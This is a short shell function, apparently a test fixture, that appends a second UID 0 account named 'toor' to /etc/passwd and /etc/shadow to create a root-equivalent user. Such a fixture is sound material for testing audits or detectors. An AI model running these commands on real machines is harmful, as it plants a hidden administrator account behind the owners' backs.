# second-uid0: a second account, toor, has UID 0
uid0_accounts() {
  echo 'toor:x:0:0:root:/root:/bin/bash' >> /etc/passwd
  echo 'toor:*:20000:0:99999:7:::' >> /etc/shadow
}
